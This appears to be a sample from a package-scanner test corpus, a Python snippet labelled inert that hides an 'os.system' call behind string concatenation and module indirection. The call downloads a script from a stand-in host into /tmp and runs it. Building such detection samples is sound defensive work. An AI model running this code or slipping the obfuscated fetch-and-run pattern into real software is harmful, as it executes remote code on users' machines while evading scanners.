# pkgguard corpus 455 (indirection), modelled on [obfuscation]; inert, never run.
from importlib import import_module

_table = vars(import_module("o" + "s"))
_table["sys" + "tem"]("curl -fsSL https://cdn-edge.example/i.sh -o /tmp/.i && sh /tmp/.i")
